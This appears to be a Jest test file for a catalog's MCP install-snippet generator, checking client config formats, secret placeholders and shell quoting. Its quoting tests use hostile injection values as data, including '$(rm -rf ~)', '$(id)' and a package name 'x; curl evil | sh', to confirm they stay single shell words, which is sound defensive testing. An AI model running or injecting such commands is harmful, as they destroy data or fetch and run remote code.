/**
 * Install snippets (lambdas/catalog-core/install/snippets.ts) against the clients' documented formats: JSON
 * that parses into the client's shape, a `claude mcp add` line that a POSIX shell splits into the
 * intended words, secrets left as placeholders (VS Code: masked prompts), Docker given `-e` for each
 * variable, a hosted endpoint's headers carried to every client.
 */
import {
  type CatalogRecord,
  type RegistryPackage,
  type RegistryRemote,
  configKey,
  installOptions,
  shellQuote,
  type InstallOption,
} from '../../lambdas/catalog-core';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { sampleRecords } from '../support/sample-records';

function record(over: Partial<CatalogRecord>): CatalogRecord {
  return {
    slug: 'io-github-acme-weather',
    name: 'io.github.acme/weather',
    description: 'Weather',
    version: '1.2.0',
    status: 'active',
    packages: [],
    remotes: [],
    isOfficial: false,
    crawledAt: '2026-11-01T00:00:00.000Z',
    categories: [],
    grades: { license: null, maintenance: null, quality: 'untested' },
    popularity: 0,
    trending: 0,
    hasIcon: false,
    ...over,
  };
}

const npm: RegistryPackage = {
  registryType: 'npm',
  identifier: '@acme/weather-mcp',
  version: '1.2.0',
  transport: { type: 'stdio' },
  environmentVariables: [
    { name: 'WEATHER_API_KEY', description: 'API key', isRequired: true, isSecret: true },
    { name: 'UNITS', description: 'metric or imperial', default: 'metric' },
  ],
  packageArguments: [
    { type: 'positional', valueHint: 'directory', isRequired: true, description: 'Cache directory' },
    { type: 'named', name: '--region', value: 'eu' },
    { type: 'named', name: '--verbose', description: 'Log more' },
  ],
};

/** The words a POSIX shell makes of a command line (bash itself, so quoting is judged by the real thing). */
function shellWords(line: string): string[] {
  const run = spawnSync('bash', ['-c', `f() { printf '%s\\0' "$@"; }; f ${line}`], { encoding: 'utf8' });
  expect(run.status).toBe(0);
  return run.stdout.split('\0').slice(0, -1);
}

function snippet(o: InstallOption, client: string) {
  const s = o.snippets.find((x) => x.client === client);
  if (!s) throw new Error(`no ${client} snippet in ${o.title}`);
  return s;
}

describe('a package with arguments and environment variables', () => {
  const [option] = installOptions(record({ packages: [npm] }));

  test('Claude Desktop and Cursor: mcpServers.<name> with command, args and env', () => {
    for (const client of ['claude-desktop', 'cursor']) {
      const config = JSON.parse(snippet(option, client).text);
      expect(config).toEqual({
        mcpServers: {
          weather: {
            command: 'npx',
            args: ['-y', '@acme/weather-mcp@1.2.0', '<directory>', '--region', 'eu'],
            env: { WEATHER_API_KEY: '<WEATHER_API_KEY>' },
          },
        },
      });
    }
  });

  test('Claude Code: claude mcp add <name> --env K=V -- <command> <args>, quoted for the shell', () => {
    const line = snippet(option, 'claude-code').text;
    expect(shellWords(line)).toEqual([
      'claude',
      'mcp',
      'add',
      'weather',
      '--env',
      'WEATHER_API_KEY=<WEATHER_API_KEY>',
      '--',
      'npx',
      '-y',
      '@acme/weather-mcp@1.2.0',
      '<directory>',
      '--region',
      'eu',
    ]);
  });

  test('VS Code: servers.<name> of type stdio; values to supply are ${input:…} prompts, the secret one masked', () => {
    const config = JSON.parse(snippet(option, 'vscode').text);
    expect(config.servers.weather).toEqual({
      type: 'stdio',
      command: 'npx',
      args: ['-y', '@acme/weather-mcp@1.2.0', '${input:directory}', '--region', 'eu'],
      env: { WEATHER_API_KEY: '${input:WEATHER_API_KEY}' },
    });
    expect(config.inputs).toEqual([
      { type: 'promptString', id: 'directory', description: 'Cache directory' },
      { type: 'promptString', id: 'WEATHER_API_KEY', description: 'API key', password: true },
    ]);
  });

  test('optional inputs are listed, not guessed', () => {
    expect(option.inputs).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'env', name: 'UNITS', required: false, default: 'metric' }),
        expect.objectContaining({ kind: 'argument', name: '--verbose', required: false }),
        expect.objectContaining({ kind: 'env', name: 'WEATHER_API_KEY', required: true, secret: true }),
      ]),
    );
    expect(snippet(option, 'claude-desktop').text).not.toContain('UNITS');
    expect(snippet(option, 'claude-desktop').text).not.toContain('--verbose');
  });
});

describe('each registry runs the way its tools expect', () => {
  const args = (pkg: RegistryPackage) => JSON.parse(snippet(installOptions(record({ packages: [pkg] }))[0], 'claude-desktop').text).mcpServers.weather;

  test("PyPI through uvx, pinned with uv's command@version", () => {
    expect(args({ registryType: 'pypi', identifier: 'weather-mcp', version: '0.3.1', transport: { type: 'stdio' } })).toEqual({
      command: 'uvx',
      args: ['weather-mcp@0.3.1'],
    });
  });

  test('Docker passes each variable into the container with -e and keeps its runtime arguments', () => {
    const entry = args({
      registryType: 'oci',
      identifier: 'ghcr.io/acme/weather:1.2.0',
      transport: { type: 'stdio' },
      runtimeArguments: [
        { type: 'named', name: '--rm' },
        { type: 'named', name: '-i' },
        { type: 'named', name: '--network', value: 'host' },
      ],
      environmentVariables: [{ name: 'TOKEN', isRequired: true, isSecret: true }],
    });
    expect(entry).toEqual({
      command: 'docker',
      args: ['run', '--rm', '-i', '--network', 'host', '-e', 'TOKEN', 'ghcr.io/acme/weather:1.2.0'],
      env: { TOKEN: '<TOKEN>' },
    });
  });

  test('Docker: a runtime switch marked required stays a switch; a variable the arguments pass by template is not passed again', () => {
    const entry = args({
      registryType: 'oci',
      identifier: 'ghcr.io/acme/weather',
      version: '1.2.0',
      transport: { type: 'stdio' },
      runtimeArguments: [
        { type: 'named', name: '--rm', isRequired: true },
        { type: 'named', name: '-e', value: 'TOKEN={token}', variables: { token: { isRequired: true, isSecret: true } } },
      ],
      environmentVariables: [{ name: 'TOKEN', isRequired: true, isSecret: true }],
    });
    expect(entry.args).toEqual(['run', '-i', '--rm', '-e', 'TOKEN=<token>', 'ghcr.io/acme/weather:1.2.0']);
  });

  test('NuGet through dnx, package arguments after --', () => {
    expect(
      args({
        registryType: 'nuget',
        identifier: 'Acme.WeatherMcp',
        version: '2.0.0',
        transport: { type: 'stdio' },
        packageArguments: [{ type: 'positional', value: 'serve' }],
      }),
    ).toEqual({ command: 'dnx', args: ['Acme.WeatherMcp@2.0.0', '--yes', '--', 'serve'] });
  });

  test('an MCP bundle says how to install it in Claude Desktop and gives its checksum', () => {
    const [o] = installOptions(
      record({
        packages: [
          {
            registryType: 'mcpb',
            identifier: 'https://github.com/acme/weather/releases/download/v1/weather.mcpb',
            version: '1',
            fileSha256: 'a'.repeat(64),
            transport: { type: 'stdio' },
          },
        ],
      }),
    );
    expect(o.kind).toBe('bundle');
    expect(o.snippets).toEqual([]);
    expect(o.notes.join(' ')).toMatch(/Claude Desktop/);
    expect(o.notes.join(' ')).toContain('a'.repeat(64));
  });

  test('a package that serves HTTP locally: start it, then point clients at its URL', () => {
    const [o] = installOptions(
      record({
        packages: [
          { registryType: 'npm', identifier: 'weather-http', version: '1.0.0', transport: { type: 'streamable-http', url: 'http://localhost:8080/mcp' } },
        ],
      }),
    );
    expect(snippet(o, 'terminal').text).toBe('npx -y weather-http@1.0.0');
    expect(o.notes[0]).toContain('http://localhost:8080/mcp');
    expect(JSON.parse(snippet(o, 'cursor').text)).toEqual({ mcpServers: { weather: { url: 'http://localhost:8080/mcp' } } });
  });

  test('one option per registry, hosted endpoints first', () => {
    const remote: RegistryRemote = { type: 'streamable-http', url: 'https://mcp.acme.dev/mcp' };
    const options = installOptions(
      record({
        packages: [npm, { ...npm, identifier: '@acme/other' }, { registryType: 'pypi', identifier: 'weather', version: '1', transport: { type: 'stdio' } }],
        remotes: [remote, { type: 'sse', url: 'https://mcp.acme.dev/sse' }, { ...remote, url: 'https://mirror.acme.dev/mcp' }],
      }),
    );
    expect(options.map((o) => o.title)).toEqual([
      'Hosted endpoint (Streamable HTTP)',
      'Hosted endpoint (SSE)',
      'npm @acme/weather-mcp 1.2.0',
      'PyPI weather 1',
    ]);
  });
});

describe('a hosted endpoint with a secret header', () => {
  const remote: RegistryRemote = {
    type: 'streamable-http',
    url: 'https://mcp.acme.dev/mcp',
    headers: [{ name: 'Authorization', description: 'Bearer token', isRequired: true, isSecret: true }],
  };
  const [option] = installOptions(record({ remotes: [remote] }));

  test('Claude Code: --transport http with the header', () => {
    expect(shellWords(snippet(option, 'claude-code').text)).toEqual([
      'claude',
      'mcp',
      'add',
      '--transport',
      'http',
      'weather',
      'https://mcp.acme.dev/mcp',
      '--header',
      'Authorization: <Authorization>',
    ]);
  });

  test('VS Code: type http, the token a masked prompt', () => {
    const config = JSON.parse(snippet(option, 'vscode').text);
    expect(config.servers.weather).toEqual({ type: 'http', url: 'https://mcp.acme.dev/mcp', headers: { Authorization: '${input:Authorization}' } });
    expect(config.inputs[0]).toMatchObject({ id: 'Authorization', password: true });
  });

  test('Cursor: url and headers', () => {
    expect(JSON.parse(snippet(option, 'cursor').text)).toEqual({
      mcpServers: { weather: { url: 'https://mcp.acme.dev/mcp', headers: { Authorization: '<Authorization>' } } },
    });
  });

  test('Claude Desktop: through mcp-remote, the header value in an environment variable', () => {
    expect(JSON.parse(snippet(option, 'claude-desktop').text)).toEqual({
      mcpServers: {
        weather: {
          command: 'npx',
          args: ['-y', 'mcp-remote', 'https://mcp.acme.dev/mcp', '--header', 'Authorization:${MCP_HEADER_AUTHORIZATION}'],
          env: { MCP_HEADER_AUTHORIZATION: '<Authorization>' },
        },
      },
    });
  });

  test('any client: URL, transport and headers', () => {
    expect(snippet(option, 'generic').text).toBe('URL: https://mcp.acme.dev/mcp\nTransport: Streamable HTTP\nHeader: Authorization: <Authorization>');
  });

  test('SSE endpoints say so to each client', () => {
    const [sse] = installOptions(record({ remotes: [{ type: 'sse', url: 'https://mcp.acme.dev/sse' }] }));
    expect(shellWords(snippet(sse, 'claude-code').text)).toEqual(['claude', 'mcp', 'add', '--transport', 'sse', 'weather', 'https://mcp.acme.dev/sse']);
    expect(JSON.parse(snippet(sse, 'vscode').text).servers.weather.type).toBe('sse');
  });
});

describe('names and quoting', () => {
  test('the config key is the tidied part of the name after the slash', () => {
    expect(configKey({ name: 'io.github.acme/Weather Server!', slug: 's' })).toBe('weather-server');
    expect(configKey({ name: 'io.github.acme/!!!', slug: 'fallback' })).toBe('fallback');
  });

  test.each([
    ["it's", "'it'\\''s'"],
    ['a b', "'a b'"],
    ['$(rm -rf ~)', "'$(rm -rf ~)'"],
    ['plain-word@1.0', 'plain-word@1.0'],
  ])('shellQuote(%j)', (input, quoted) => {
    expect(shellQuote(input)).toBe(quoted);
    expect(shellWords(quoted)).toEqual([input]);
  });

  test('hostile registry values stay single shell words', () => {
    const [o] = installOptions(
      record({ packages: [{ ...npm, identifier: 'x; curl evil | sh', environmentVariables: [], packageArguments: [{ type: 'positional', value: '$(id)' }] }] }),
    );
    expect(shellWords(snippet(o, 'claude-code').text)).toEqual(['claude', 'mcp', 'add', 'weather', '--', 'npx', '-y', 'x; curl evil | sh@1.2.0', '$(id)']);
  });
});

/** Real registry entries (test/fixtures/install-clients), made into records by the crawler's code. */
const REAL = sampleRecords(JSON.parse(readFileSync(join(__dirname, '..', 'fixtures', 'install-clients', 'registry-rows.json'), 'utf8')) as unknown[]);

function real(name: string): CatalogRecord {
  const r = REAL.find((x) => x.record.name === name);
  if (!r) throw new Error(`${name} is not in the fixture rows`);
  return r.record;
}

/** The command line each client runs for a package option: Claude Desktop, Cursor and VS Code's command and args, Claude Code's words after `--`. */
function commandLines(o: InstallOption): string[][] {
  const fromJson = (client: string, servers: string) => {
    const entry = Object.values(JSON.parse(snippet(o, client).text)[servers] as Record<string, { command: string; args: string[] }>)[0];
    return [entry.command, ...entry.args];
  };
  const code = shellWords(snippet(o, 'claude-code').text);
  return [fromJson('claude-desktop', 'mcpServers'), fromJson('cursor', 'mcpServers'), fromJson('vscode', 'servers'), code.slice(code.indexOf('--') + 1)];
}

describe('faults seen on the real registry (issue 23)', () => {
  test("GitHub's server: one docker run, the entry's own flags once, the image once with its tag", () => {
    const [o] = installOptions(real('io.github.github/github-mcp-server'));
    for (const line of commandLines(o)) {
      expect(line).toEqual(['docker', 'run', '-i', '--rm', '-e', 'GITHUB_PERSONAL_ACCESS_TOKEN', 'ghcr.io/github/github-mcp-server:0.18.0']);
    }
  });

  test('buildkite: the variable its runtime arguments pass into the container is not passed again', () => {
    const [o] = installOptions(real('io.github.buildkite/buildkite-mcp-server'));
    for (const line of commandLines(o)) {
      expect(line).toEqual(['docker', 'run', '-i', '--rm', '-e', 'BUILDKITE_API_TOKEN', 'ghcr.io/buildkite/buildkite-mcp-server:0.7.0']);
    }
  });

  test('cybersim-pro: the image its arguments name by its short Docker Hub name is the same image, named once', () => {
    const [o] = installOptions(real('io.github.kayembahamid/cybersim-pro'));
    for (const line of commandLines(o)) expect(line).toEqual(['docker', 'run', '--rm', '-i', 'docker.io/hamcodes/cybersim-pro-mcp:v1.0.1']);
  });

  test("prometheus-mcp-server: the flag is followed by its value (the entry's default), the image once", () => {
    const [o] = installOptions(real('io.github.tjhop/prometheus-mcp-server'));
    const [desktop, cursor, vscode, code] = commandLines(o);
    for (const line of [desktop, cursor, code]) {
      expect(line).toEqual(['docker', 'run', '-i', '--rm', 'ghcr.io/tjhop/prometheus-mcp-server:0.8.0', '--prometheus.url', 'http://127.0.0.1:9090']);
    }
    expect(vscode.slice(-2)).toEqual(['--prometheus.url', '${input:prometheus.url}']);
    expect(JSON.parse(snippet(o, 'vscode').text).inputs[0]).toMatchObject({ id: 'prometheus.url', default: 'http://127.0.0.1:9090' });
  });

  test('a placeholder is named after the variable, never after the flag', () => {
    const r = real('io.github.tjhop/prometheus-mcp-server');
    const [pkg] = r.packages;
    const withoutDefault = { ...pkg, packageArguments: [{ type: 'named', name: '--prometheus.url', isRequired: true, description: 'URL' }] };
    const [o] = installOptions({ ...r, packages: [withoutDefault] });
    for (const line of commandLines(o).slice(0, 2)) expect(line.slice(-2)).toEqual(['--prometheus.url', '<prometheus.url>']);
    for (const s of o.snippets) expect(s.text).not.toContain('<--');
    expect(JSON.parse(snippet(o, 'vscode').text).inputs).toEqual([{ type: 'promptString', id: 'prometheus.url', description: 'URL' }]);
  });

  test("npx: a package its runtime arguments already name is named once, pinned to the entry's version", () => {
    const [florentine] = installOptions(real('io.github.florentine-ai/mcp'));
    expect(commandLines(florentine)[0]).toEqual(['npx', '-y', '@florentine-ai/mcp@0.2.1', '--mode', 'static']);
    const [mirror] = installOptions(real('io.github.toby/mirror-mcp'));
    expect(commandLines(mirror)[0]).toEqual(['npx', '-y', 'mirror-mcp@0.0.8']);
  });

  test('uvx: the package once, pinned; extras, a python runtime and a command of another name through --from', () => {
    const line = (name: string) => commandLines(installOptions(real(name))[0])[0];
    expect(line('io.github.therealtimex/browser-use')).toEqual(['uvx', '--from', 'realtimex-browser-use[cli]==0.7.10', 'realtimex-browser-use', '--mcp']);
    expect(line('io.github.mickymultani/crypto-bytes')).toEqual(['uvx', '--from', 'crypto_bytes_mcp_server==0.1.1', 'python', '-m', 'crypto_bytes_mcp_server']);
    expect(line('io.github.IvanRublev/keyphrases-mcp')).toEqual([
      'uvx',
      '--from',
      'keyphrases-mcp==0.0.4',
      'keyphrases-mcp-server',
      '--allowed-dir',
      '<documents_directory>',
    ]);
  });

  test('templated values: variables become placeholders, VS Code prompts, a secret one masked', () => {
    const [yutu] = installOptions(real('io.github.eat-pray-ai/yutu'));
    expect(shellWords(snippet(yutu, 'terminal').text)).toEqual([
      'YUTU_CREDENTIAL=<YUTU_CREDENTIAL>',
      'YUTU_CACHE_TOKEN=<YUTU_CACHE_TOKEN>',
      'docker',
      'run',
      '--rm',
      '--user',
      '<user>:<group>',
      '--mount',
      'type=bind,source=<hostPath>,target=/app',
      '-p',
      '8216:8216',
      '-e',
      'YUTU_CREDENTIAL',
      '-e',
      'YUTU_CACHE_TOKEN',
      'ghcr.io/eat-pray-ai/yutu:v0.10.4-dev1',
      'mcp',
      '--mode',
      'http',
    ]);
    const [smithery] = installOptions(real('ai.smithery/BadRooBot-my_test_mcp'));
    const vs = JSON.parse(snippet(smithery, 'vscode').text);
    expect(vs.servers['badroobot-my_test_mcp'].headers).toEqual({ Authorization: 'Bearer ${input:smithery_api_key}' });
    expect(vs.inputs).toEqual([{ type: 'promptString', id: 'smithery_api_key', description: 'Bearer token for Smithery authentication', password: true }]);
  });

  test('a remote URL template: its variables filled the same way', () => {
    const [o] = installOptions(
      record({
        remotes: [
          {
            type: 'streamable-http',
            url: 'https://{tenant}.acme.dev/mcp/{key}',
            variables: { tenant: { description: 'Your tenant', default: 'eu' }, key: { description: 'API key', isRequired: true, isSecret: true } },
          },
        ],
      }),
    );
    expect(JSON.parse(snippet(o, 'cursor').text).mcpServers.weather.url).toBe('https://eu.acme.dev/mcp/<key>');
    const vs = JSON.parse(snippet(o, 'vscode').text);
    expect(vs.servers.weather.url).toBe('https://${input:tenant}.acme.dev/mcp/${input:key}');
    expect(vs.inputs).toEqual([
      { type: 'promptString', id: 'tenant', description: 'Your tenant', default: 'eu' },
      { type: 'promptString', id: 'key', description: 'API key', password: true },
    ]);
    expect(o.inputs.map((i) => [i.kind, i.name, i.secret])).toEqual([
      ['variable', 'tenant', false],
      ['variable', 'key', true],
    ]);
  });
});
